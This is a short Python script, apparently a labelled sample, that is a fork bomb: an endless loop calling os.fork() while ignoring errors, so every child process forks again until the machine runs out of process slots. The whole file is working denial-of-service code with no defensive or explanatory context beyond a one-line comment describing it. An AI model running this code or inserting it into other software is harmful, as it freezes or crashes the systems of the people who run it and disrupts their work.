# Forks without end, and every child does too.
# tiers: full partial
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
